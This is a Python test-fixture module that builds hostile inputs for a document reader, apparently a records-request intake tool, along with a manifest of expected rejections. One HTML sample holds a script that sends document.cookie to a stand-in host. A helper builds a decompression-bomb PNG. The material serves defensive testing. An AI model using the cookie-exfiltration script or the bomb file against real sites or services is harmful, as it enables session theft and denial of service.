"""Inputs a reader must refuse (or, for a mislabelled PDF, read anyway), with a manifest."""

from __future__ import annotations

import io
import json
import random
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def bomb_png(width: int = 60000, height: int = 60000) -> bytes:
    """A few hundred bytes declaring a 3.6-gigapixel image; decoding it would need gigabytes."""
    row = b"\x00" + b"\x00" * (width // 8)
    data = zlib.compress(row * 64, 9)
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", data)
            + _png_chunk(b"IEND", b""))


def many_pages_pdf(pages: int = 10000) -> bytes:
    """A valid PDF with ten thousand blank pages sharing one content stream."""
    objects: list[bytes] = []
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode())
    objects.append(b"<< /Length 0 >>\nstream\n\nendstream")
    for _ in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{n} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for off in offsets:
        out.write(f"{off:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
              .encode())
    return out.getvalue()


def encrypt_pdf(pdf: bytes) -> bytes:
    """Password-protected copy (needs a user password to open), made with qpdf."""
    if shutil.which("qpdf") is None:
        raise RuntimeError("qpdf is needed to build the encrypted sample (apt-get install qpdf)")
    with tempfile.TemporaryDirectory() as tmp:
        src, dst = Path(tmp, "in.pdf"), Path(tmp, "out.pdf")
        src.write_bytes(pdf)
        # 128-bit AES with qpdf's static id and IV: the same input gives the same bytes.
        subprocess.run(["qpdf", "--static-id", "--static-aes-iv", "--encrypt", "user-secret",
                        "owner-secret", "128", "--use-aes=y", "--", str(src), str(dst)],
                       check=True)
        return dst.read_bytes()


MALFORMED_EML = (
    b"From: =?utf-8?B?broken\r\nTo: records@state.co.us\r\nSubject: =?x-unknown?Q?=ZZ?=\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"never-appears\"\r\n\r\n"
    b"--wrong-boundary\r\nContent-Type: application/pdf\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n%%%% not base64 at all %%%%\r\n"
)

SCRIPT_HTML = (
    "<!doctype html><html><head><title>Request</title>"
    "<script>fetch('https://example.invalid/x?c='+document.cookie)</script></head>"
    "<body onload=\"alert(1)\"><p>Please provide records.</p></body></html>"
)


def write_hostile(out: Path, sample_pdf: bytes, seed: int) -> list[dict[str, object]]:
    """Write the hostile files into ``out`` and return the manifest rows."""
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(f"hostile-{seed}")
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as z:
        z.writestr(zipfile.ZipInfo("[Content_Types].xml", (2025, 1, 1, 0, 0, 0)),
                   "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                   "content-types\"/>")
        z.writestr(zipfile.ZipInfo("word/document.xml", (2025, 1, 1, 0, 0, 0)),
                   "<w:document><w:body><w:p><w:r><w:t>Request for records</w:t></w:r></w:p>"
                   "</w:body></w:document>")
    files: list[tuple[str, bytes, bool, str]] = [
        ("empty.pdf", b"", True, "empty"),
        ("truncated.pdf", sample_pdf[: len(sample_pdf) * 2 // 5], True, "corrupt"),
        ("encrypted.pdf", encrypt_pdf(sample_pdf), True, "encrypted"),
        ("random-bytes.pdf", bytes(rng.getrandbits(8) for _ in range(4096)), True, "corrupt"),
        ("letter-pdf-named.jpg", sample_pdf, False, "a real PDF with the wrong extension"),
        ("bomb.png", bomb_png(), True, "too_large"),
        ("ten-thousand-pages.pdf", many_pages_pdf(), True, "too_large"),
        ("malformed.eml", MALFORMED_EML, True, "corrupt"),
        ("script.html", SCRIPT_HTML.encode(), True, "unsupported"),
        ("request.docx", docx.getvalue(), True, "unsupported"),
    ]
    manifest = []
    for name, data, rejected, why in files:
        (out / name).write_bytes(data)
        manifest.append({"file": name, "rejected": rejected, "reason": why})
    (out / "hostile.json").write_text(json.dumps(manifest, indent=2) + "\n")
    return manifest
